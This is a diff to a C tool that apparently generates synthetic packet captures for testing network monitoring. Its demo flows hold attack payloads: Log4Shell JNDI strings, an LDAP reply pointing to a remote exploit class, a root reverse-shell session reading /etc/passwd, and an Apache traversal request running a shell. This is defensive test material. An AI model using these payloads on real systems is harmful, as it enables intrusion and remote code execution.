@@ -43,12 +43,15 @@
  *   id=N seq=N                     icmp: identifier and first sequence number
  *
  * TEXT takes C escapes: \r \n \t \0 \a \b \f \v \\ \" \' \?, octal \NNN and
- * hex \xHH.  Example:
+ * hex \xHH (one or two digits, so "\x07example" is 0x07 then "example").
+ * Example:
  *
- *   tcp 10.0.0.5:40000 > 198.51.100.7:80 "GET /?q=${jndi:ldap://x/a} HTTP/1.1\r\n\
- *   Host: a\r\n\r\n" server:"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"
+ *   tcp 10.0.0.5:40000 > 198.51.100.7:80 \
+ *       "GET /?q=${jndi:ldap://x/a} HTTP/1.1\r\nHost: a\r\n\r\n" \
+ *       server:"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"
  *
- * Errors name SPEC:LINE and stop the run; the half-written pcap is removed.
+ * Errors name SPEC:LINE (the first line of a continued line) and stop the
+ * run; the half-written pcap is removed.
  */
 #include <errno.h>
 #include <getopt.h>
@@ -174,7 +177,10 @@ static int hexval(int c)
 /* Decodes the quoted string starting after the opening quote at *pp. */
 static int lex_string(struct spec *sp, const char **pp, struct tok *t)
 {
-    const char *p = *pp;
+    /* The one-character escapes, and what they stand for. */
+    static const char simple_from[] = "rntabfv\\\"'?";
+    static const char simple_to[] = "\r\n\t\a\b\f\v\\\"'?";
+    const char *p = *pp, *e;
     uint8_t *out = malloc(strlen(p) + 1);
     size_t n = 0;
     int v, i;
@@ -194,15 +200,11 @@ static int lex_string(struct spec *sp, const char **pp, struct tok *t)
             continue;
         }
         c = *p++;
+        if (c != '\0' && (e = strchr(simple_from, c)) != NULL) {
+            out[n++] = (uint8_t)simple_to[e - simple_from];
+            continue;
+        }
         switch (c) {
-        case 'r': out[n++] = '\r'; break;
-        case 'n': out[n++] = '\n'; break;
-        case 't': out[n++] = '\t'; break;
-        case 'a': out[n++] = '\a'; break;
-        case 'b': out[n++] = '\b'; break;
-        case 'f': out[n++] = '\f'; break;
-        case 'v': out[n++] = '\v'; break;
-        case '\\': case '"': case '\'': case '?': out[n++] = (uint8_t)c; break;
         case 'x':
             if (hexval(p[0]) < 0) {
                 free(out);
@@ -220,8 +222,7 @@ static int lex_string(struct spec *sp, const char **pp, struct tok *t)
                     v = v * 8 + (*p++ - '0');
                 if (v > 255) {
                     free(out);
-                    return spec_error(sp, "octal escape \\%o is larger than a byte",
-                                      (unsigned)v);
+                    return spec_error(sp, "octal escape \\%o is larger than a byte", (unsigned)v);
                 }
                 out[n++] = (uint8_t)v;
                 break;
@@ -289,8 +290,8 @@ static int parse_long(const char *s, long min, long max, long *out)
 
 /* ADDR:PORT or [V6]:PORT; with want_port false a bare address (brackets
  * allowed for IPv6). */
-static int parse_endpoint(struct spec *sp, const char *text, bool want_port,
-                          struct kanshi_addr *a, uint16_t *port)
+static int parse_endpoint(struct spec *sp, const char *text, bool want_port, struct kanshi_addr *a,
+                          uint16_t *port)
 {
     char buf[SPEC_WORD_MAX];
     const char *portstr = NULL;
@@ -353,8 +354,8 @@ static int parse_option(struct spec *sp, const char *word, unsigned proto, struc
             else
                 return spec_error(sp, "option '%s' takes yes or no", so->name);
         } else if (parse_long(eq + 1, so->min, so->max, &v) != 0) {
-            return spec_error(sp, "option '%s' takes a number from %ld to %ld", so->name,
-                              so->min, so->max);
+            return spec_error(sp, "option '%s' takes a number from %ld to %ld", so->name, so->min,
+                              so->max);
         }
         *(long *)((char *)o + so->off) = v;
         if (strcmp(so->name, "type") == 0)
@@ -514,8 +515,7 @@ static int spec_flow(struct spec *sp, const char *line)
     else if (strcmp(t.word, "icmp") == 0)
         proto = P_ICMP;
     else
-        return spec_error(sp, "unknown line type '%s' (expected tcp, udp, icmp or sleep)",
-                          t.word);
+        return spec_error(sp, "unknown line type '%s' (expected tcp, udp, icmp or sleep)", t.word);
 
     if (lex(sp, &p, &t) != 0)
         return -1;
@@ -600,10 +600,12 @@ out:
     return rc;
 }
 
-/* True when the line ends inside a quoted string (so it cannot continue). */
-static bool in_quotes_at_end(const char *s)
+/* True when s ends in a backslash that is outside quotes and outside a
+ * comment: the line continues on the next one. */
+static bool line_continues(const char *s)
 {
     bool q = false;
+    size_t n = strlen(s);
 
     for (; *s != '\0'; s++) {
         if (q && *s == '\\' && s[1] != '\0')
@@ -613,7 +615,7 @@ static bool in_quotes_at_end(const char *s)
         else if (!q && *s == '#')
             return false;
     }
-    return q;
+    return !q && n > 0 && s[-1] == '\\';
 }
 
 static void chomp(char *s)
@@ -668,7 +670,7 @@ static int spec_run(struct spec *sp, FILE *fp, const char *section)
         memcpy(logical + loglen, buf, n + 1);
         loglen += n;
         /* A trailing backslash outside quotes joins the next line. */
-        if (loglen > 0 && logical[loglen - 1] == '\\' && !in_quotes_at_end(logical)) {
+        if (line_continues(logical)) {
             logical[--loglen] = '\0';
             continue;
         }
@@ -754,8 +756,14 @@ struct msg {
     size_t len;
 };
 
-#define TO_SRV(s) {PKTGEN_TO_SERVER, (const uint8_t *)(s), sizeof(s) - 1}
-#define TO_CLI(s) {PKTGEN_TO_CLIENT, (const uint8_t *)(s), sizeof(s) - 1}
+#define TO_SRV(s)                                                                                  \
+    {                                                                                              \
+        PKTGEN_TO_SERVER, (const uint8_t *)(s), sizeof(s) - 1                                      \
+    }
+#define TO_CLI(s)                                                                                  \
+    {                                                                                              \
+        PKTGEN_TO_CLIENT, (const uint8_t *)(s), sizeof(s) - 1                                      \
+    }
 
 struct demo {
     struct pktgen *g;
@@ -978,8 +986,8 @@ static size_t put_be16(uint8_t *p, size_t len)
  * records: enough for a dissector to see a well-formed handshake. */
 static void demo_https(struct demo *d, const char *cli, const char *srv, const char *sni)
 {
-    static const uint8_t suites[] = {0x13, 0x01, 0x13, 0x02, 0xc0, 0x2b, 0xc0, 0x2f,
-                                     0xc0, 0x2c, 0xc0, 0x30};
+    static const uint8_t suites[] = {0x13, 0x01, 0x13, 0x02, 0xc0, 0x2b,
+                                     0xc0, 0x2f, 0xc0, 0x2c, 0xc0, 0x30};
     static const uint8_t ccs[] = {0x14, 0x03, 0x03, 0x00, 0x01, 0x01};
     uint8_t ch[512], sh[128], fin[6 + 45], app[2][5 + 600];
     size_t snilen = strlen(sni), n, ext, hs, extlen, i;
@@ -1263,18 +1271,22 @@ static const struct msg atk_log4shell_ua[] = {
 
 /* The portal, now exploited, fetches the attacker's LDAP reference. */
 static const struct msg atk_ldap_ref[] = {
-    TO_SRV("\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x03\x04\x00\x80\x00"),
-    TO_CLI("\x30\x0c\x02\x01\x01\x61\x07\x0a\x01\x00\x04\x00\x04\x00"),
-    TO_SRV("\x30\x40\x02\x01\x02\x63\x3b\x04\x1f"
-           "Basic/Command/Base64/d2dldCBodH"
-           "\x0a\x01\x00\x0a\x01\x03\x02\x01\x00\x02\x01\x00\x01\x01\x00"
-           "\x87\x0bobjectClass\x30\x00"),
-    TO_CLI("\x30\x81\x8e\x02\x01\x02\x64\x81\x88\x04\x1f"
-           "Basic/Command/Base64/d2dldCBodH"
-           "\x30\x65"
-           "\x30\x1b\x04\x0djavaClassName\x31\x0a\x04\x08foo.Main"
-           "\x30\x28\x04\x0cjavaCodeBase\x31\x18\x04\x16http://198.51.100.66/"
-           "\x30\x1c\x04\x0bjavaFactory\x31\x0d\x04\x0bExploitA9Xz"),
+    TO_SRV("0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\x00\x80\x00"),
+    TO_CLI("0\x0c\x02\x01\x01"
+           "a\x07\x0a\x01\x00\x04\x00\x04\x00"),
+    TO_SRV("0D\x02\x01\x02"
+           "c?\x04\x1f"
+           "Basic/Command/Base64/d2dldCBodH\x0a\x01\x00\x0a"
+           "\x01\x03\x02\x01\x00\x02\x01\x00\x01\x01\x00\x87\x0bobjectClass0\x00"),
+    TO_CLI("0\x81\x8d\x02\x01\x02"
+           "d\x81\x87\x04\x1f"
+           "Basic/Command/Base64/d2dldCBodH0d0"
+           "\x1b\x04\x0djavaClassName1\x0a\x04\x08"
+           "foo.Main0'\x04\x0cjavaCodeBase1\x17"
+           "\x04\x15http://198.51.100.66/0\x1c\x04\x0bjavaFactory1\x0d\x04\x0b"
+           "ExploitA9"
+           "Xz0\x0c\x02\x01\x02"
+           "e\x07\x0a\x01\x00\x04\x00\x04\x00"),
 };
 
 static const struct msg atk_log4shell_uri[] = {
@@ -1367,7 +1379,52 @@ static const struct msg atk_linux_shell[] = {
     TO_SRV("uid=0(root) gid=0(root) groups=0(root)\n"),
     TO_CLI("cat /etc/hostname\n"),
     TO_SRV("portal01\n"),
+    TO_CLI("head -3 /etc/passwd\n"),
+    TO_SRV("root:x:0:0:root:/root:/bin/bash\n"
+           "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
+           "bin:x:2:2:bin:/bin:/usr/sbin/nologin\n"),
 };
+
+static const struct msg atk_apache_traversal[] = {
+    TO_SRV("POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\r\n"
+           "Host: portal.example.go.jp\r\n"
+           "User-Agent: Mozilla/5.0 zgrab/0.x\r\n"
+           "Content-Type: text/plain\r\n"
+           "Content-Length: 7\r\n\r\n"
+           "echo;id"),
+    TO_CLI("HTTP/1.1 403 Forbidden\r\nServer: nginx\r\nContent-Length: 0\r\n\r\n"),
+};
+
+static const struct msg atk_imap[] = {
+    TO_CLI("* OK [CAPABILITY IMAP4rev1 SASL-IR LOGIN-REFERRALS AUTH=PLAIN] Dovecot ready.\r\n"),
+    TO_SRV("a001 LOGIN suzuki Fuyu2024\r\n"),
+    TO_CLI("a001 OK [CAPABILITY IMAP4rev1] Logged in\r\n"),
+    TO_SRV("a002 LOGOUT\r\n"),
+    TO_CLI("* BYE Logging out\r\na002 OK Logout completed.\r\n"),
+};
+
+/* A SIP scanner trying Log4Shell on the PBX over UDP. */
+static void demo_sip_log4shell(struct demo *d)
+{
+    static const char sip[] = "OPTIONS sip:100@192.168.10.60 SIP/2.0\r\n"
+                              "Via: SIP/2.0/UDP 1.128.0.1:5060;branch=z9hG4bK-3127-1-0\r\n"
+                              "Max-Forwards: 70\r\n"
+                              "From: <sip:100@1.128.0.1>;tag=8f3a\r\n"
+                              "To: <sip:100@192.168.10.60>\r\n"
+                              "Call-ID: 40312271@1.128.0.1\r\n"
+                              "CSeq: 1 OPTIONS\r\n"
+                              "User-Agent: ${jndi:ldap://1.128.0.1:1389/sip}\r\n"
+                              "Accept: application/sdp\r\n"
+                              "Content-Length: 0\r\n\r\n";
+    struct kanshi_addr s = demo_addr(d, "1.128.0.1"), t = demo_addr(d, "192.168.10.60");
+
+    if (d->err != 0)
+        return;
+    pktgen_set_vlan(d->g, DMZ_VLAN);
+    demo_fail(d, pktgen_udp(d->g, &s, 5060, &t, 5060, sip, sizeof(sip) - 1), "sip");
+    pktgen_set_vlan(d->g, 0);
+    d->flows++;
+}
 
 static const struct msg atk_ps_cradle[] = {
     TO_SRV("GET /invoice-2024-0115.hta HTTP/1.1\r\n"
@@ -1469,12 +1526,8 @@ static const struct msg atk_basic[] = {
 };
 
 static const struct msg atk_pop3[] = {
-    TO_CLI("+OK POP3 server ready\r\n"),
-    TO_SRV("USER sato\r\n"),
-    TO_CLI("+OK\r\n"),
-    TO_SRV("PASS Natsu#77\r\n"),
-    TO_CLI("+OK Logged in.\r\n"),
-    TO_SRV("QUIT\r\n"),
+    TO_CLI("+OK POP3 server ready\r\n"), TO_SRV("USER sato\r\n"),      TO_CLI("+OK\r\n"),
+    TO_SRV("PASS Natsu#77\r\n"),         TO_CLI("+OK Logged in.\r\n"), TO_SRV("QUIT\r\n"),
     TO_CLI("+OK Logging out.\r\n"),
 };
 
@@ -1514,7 +1567,8 @@ static void demo_meterpreter(struct demo *d)
 
     memset(stage, 0, sizeof(stage));
     /* A 4-byte little-endian length, as Metasploit sends before a stage. */
-    static const uint8_t head[] = "\xb0\x04\x00\x00MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff";
+    static const uint8_t head[] =
+        "\xb0\x04\x00\x00MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff";
     memcpy(stage, head, sizeof(head) - 1);
     n = 0x50;
     memcpy(stage + n, "This program cannot be run in DOS mode.\r\r\n$", 44);
@@ -1537,14 +1591,13 @@ static void demo_ptunnel(struct demo *d)
     if (d->err != 0)
         return;
     memset(data, 0, sizeof(data));
-    memcpy(data, "\xd5\x20\x08\x80", 4);       /* ptunnel magic */
-    memcpy(data + 4, "\xc6\x33\x64\x16", 4);   /* tunnel target 198.51.100.22 */
-    memcpy(data + 8, "\x00\x00\x00\x16", 4);   /* port 22 */
-    memcpy(data + 12, "\x00\x00\x00\x01", 4);  /* state: data */
-    memcpy(data + 20, "\x00\x00\x00\x18", 4);  /* data length 24 */
+    memcpy(data, "\xd5\x20\x08\x80", 4);      /* ptunnel magic */
+    memcpy(data + 4, "\xc6\x33\x64\x16", 4);  /* tunnel target 198.51.100.22 */
+    memcpy(data + 8, "\x00\x00\x00\x16", 4);  /* port 22 */
+    memcpy(data + 12, "\x00\x00\x00\x01", 4); /* state: data */
+    memcpy(data + 20, "\x00\x00\x00\x18", 4); /* data length 24 */
     memcpy(data + 28, "SSH-2.0-OpenSSH_9.6\r\n\x00\x00\x00", 24);
-    demo_fail(d, pktgen_icmp_echo(d->g, &s, &t, 0x1d2c, 1, data, sizeof(data), true),
-              "ptunnel");
+    demo_fail(d, pktgen_icmp_echo(d->g, &s, &t, 0x1d2c, 1, data, sizeof(data), true), "ptunnel");
     d->flows++;
 }
 
@@ -1583,14 +1636,21 @@ static int cmd_demo(const char *out)
             demo_tcp(&d, "192.168.10.80", "198.51.100.66", 1389, atk_ldap_ref, 4);
             break;
         case 7:
-            demo_tcp(&d, "192.168.10.80", "198.51.100.66", 9001, atk_linux_shell, 4);
+            demo_tcp(&d, "192.168.10.80", "198.51.100.66", 9001, atk_linux_shell,
+                     KANSHI_ARRAY_LEN(atk_linux_shell));
             break;
         case 9:
             demo_tcp(&d, "1.128.0.1", "192.168.10.80", 80, atk_log4shell_uri, 2);
             demo_tcp(&d, "2001:db8:bad::66", "2001:db8:10::80", 80, atk_log4shell_v6, 2);
             break;
+        case 11:
+            demo_sip_log4shell(&d);
+            break;
         case 12:
             demo_tcp(&d, "10.1.20.23", "81.2.69.160", 21, atk_ftp, KANSHI_ARRAY_LEN(atk_ftp));
+            break;
+        case 15:
+            demo_tcp(&d, "89.160.20.112", "192.168.10.80", 80, atk_apache_traversal, 2);
             break;
         case 14:
             demo_tcp(&d, "81.2.69.160", "192.168.10.80", 80, atk_traversal, 2);
@@ -1632,6 +1692,9 @@ static int cmd_demo(const char *out)
         case 41:
             demo_tcp(&d, "10.1.20.61", "67.43.156.1", 110, atk_pop3, KANSHI_ARRAY_LEN(atk_pop3));
             break;
+        case 43:
+            demo_tcp(&d, "10.1.20.12", "67.43.156.1", 143, atk_imap, KANSHI_ARRAY_LEN(atk_imap));
+            break;
         case 44:
             demo_tcp(&d, "10.1.20.70", "203.0.113.23", 23, atk_telnet,
                      KANSHI_ARRAY_LEN(atk_telnet));
@@ -1663,8 +1726,7 @@ static int cmd_demo(const char *out)
         unlink(out);
         return 1;
     }
-    printf("%s: %llu packets, %u flows\n", out, (unsigned long long)pktgen_count(d.g),
-           d.flows);
+    printf("%s: %llu packets, %u flows\n", out, (unsigned long long)pktgen_count(d.g), d.flows);
     if ((rc = pktgen_close(d.g)) != 0) {
         log_warnx("%s: %s", out, kanshi_strerror(rc));
         unlink(out);
